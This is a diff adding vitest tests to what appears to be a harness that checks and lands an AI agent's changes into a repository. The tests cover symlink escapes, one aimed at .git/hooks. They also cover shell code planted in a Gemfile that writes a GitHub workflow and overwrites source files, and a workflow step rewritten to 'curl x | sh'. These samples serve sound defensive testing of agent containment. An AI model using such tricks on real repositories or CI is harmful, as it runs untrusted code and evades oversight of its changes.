@@ -5,8 +5,9 @@ import { afterEach, beforeEach, expect, test, vi } from 'vitest';
 import { claimRef } from '../../../src/state/names.ts';
 import type { Conclusion } from '../../../src/task/protocol/assignment.ts';
 import { homeFolder } from '../../../src/task/protocol/job-files.ts';
+import { openGit } from '../support/git.ts';
 import { type Machine, startMachine, virtualClock } from '../support/machine.ts';
-import { CONFIG, inputsFor, liveRecord, PLAN, type Site, startSite } from '../support/site.ts';
+import { CONFIG, inputsFor, liveRecord, PLAN, type Site, startSite, TOOLS } from '../support/site.ts';
 
 let site: Site;
 let issue: number;
@@ -301,6 +302,47 @@ test('links out of the repository, and repositories inside of it, are refused', 
   expect(conclusion()?.failure?.output).toBe('inner is a repository of its own\nsrc/out links out of the repository');
 });
 
+test('links that leave the repository through other links are refused, and those that stay within it are not', async () => {
+  await begin({ 'top/file': '', 'a/b/c/up/file': '', 'deep/file': '' });
+  await machine.workBy(async ({ folder, write }) => {
+    await write(WORK);
+    await symlink('../../..', join(folder, 'a/b/c/root'));
+    await symlink('a/b/c/root/top', join(folder, 'within'));
+    await symlink('circle', join(folder, 'circle'));
+    await symlink('../../../top', join(folder, 'a/b/c/wide'));
+    await symlink('wide/../..', join(folder, 'a/b/c/out'));
+    await symlink('wide/../.git/hooks', join(folder, 'a/b/c/hooks'));
+  });
+
+  await machine.steps('verify', 'land');
+
+  expect(conclusion()?.failure?.output).toBe(
+    'a/b/c/hooks links out of the repository\na/b/c/out links out of the repository',
+  );
+});
+
+test('a link that leaves the repository since another one is on its way is refused', async () => {
+  const { folder, run } = openGit(join(site.folder, 'clone'));
+  await openGit(site.folder).run('clone', '--quiet', site.cloneUrl, 'clone');
+  await mkdir(join(folder, 'a/b/c/up'), { recursive: true });
+  await mkdir(join(folder, 'top'));
+  await writeFile(join(folder, 'top/file'), '');
+  await writeFile(join(folder, 'a/b/c/up/file'), '');
+  await symlink('up/../..', join(folder, 'a/b/c/link'));
+  await run('add', '--all');
+  await run('commit', '--quiet', '-m', 'A link');
+  await run('push', '--quiet', 'origin', 'HEAD:main');
+  await machine.workBy(async (workspace) => {
+    await workspace.write(WORK);
+    await rm(join(workspace.folder, 'a/b/c/up'), { recursive: true });
+    await symlink('../../../top', join(workspace.folder, 'a/b/c/up'));
+  });
+
+  await machine.steps('verify', 'land');
+
+  expect(conclusion()?.failure?.output).toBe('a/b/c/link links out of the repository');
+});
+
 test('hooks, filters and settings that an agent plants do not run while its work lands', async () => {
   const canary = join(site.folder, 'canary');
   await machine.workBy(async (workspace) => {
@@ -398,4 +440,46 @@ test('a conflict in a lock file alone is resolved by the package manager as we c
   const lock = JSON.parse((await landed('package-lock.json')) ?? '{}');
   expect(lock.lockfileVersion).toBe(3);
   expect(lock.packages['']).toMatchObject({ name: 'site', dependencies: { wall: 'file:wall' } });
+});
+
+test('of what a package manager does for a lock file, which may run code of the work, the lock file alone lands', async () => {
+  await begin({ Gemfile: '', 'Gemfile.lock': 'base\n', 'src/sound.txt': 'sound\n' });
+  machine = await startMachine(site, {
+    inputs: inputsFor(issue),
+    run: 70,
+    environment: () => ({ PATH: [join(site.folder, 'tools'), ...TOOLS].join(':') }),
+  });
+  await mkdir(join(site.folder, 'tools'));
+  // As Bundler does, which takes the file for a program.
+  await writeFile(join(site.folder, 'tools/bundle'), '#!/bin/sh\n. ./Gemfile\necho settled > Gemfile.lock\n', {
+    mode: 0o755,
+  });
+  const code =
+    'mkdir -p .github/workflows && echo x > .github/workflows/x.yml; echo rotten | tee src/b.txt src/sound.txt\n';
+  await machine.workBy((workspace) => workspace.write({ ...WORK, Gemfile: code, 'Gemfile.lock': 'agent\n' }));
+  await machine.step('verify');
+  await site.push('Another task', { 'Gemfile.lock': 'another\n' });
+
+  await machine.step('land');
+
+  expect(conclusion()?.outcome).toBe('completed');
+  expect(await landed('Gemfile.lock')).toBe('settled');
+  expect(await landed('src/sound.txt')).toBe('sound');
+  expect(await landed('src/b.txt')).toBeUndefined();
+  expect(await landed('.github/workflows/x.yml')).toBeUndefined();
+});
+
+test('a change that follows a file to a place where it may not be made does not land', async () => {
+  const steps = 'on: push\njobs:\n  build:\n    steps:\n      - run: make\n';
+  await begin({ 'drafts/build.yml': steps });
+  await machine.workBy((workspace) =>
+    workspace.write({ ...WORK, 'drafts/build.yml': steps.replace('make', 'curl x | sh') }),
+  );
+  await machine.step('verify');
+  await site.push('Use the draft', { '.github/workflows/build.yml': steps, 'drafts/build.yml': null });
+
+  await machine.step('land');
+
+  expect(conclusion()?.failure?.what).toContain('.github/workflows/build.yml is protected');
+  expect(await landed('.github/workflows/build.yml')).toBe(steps.trim());
 });
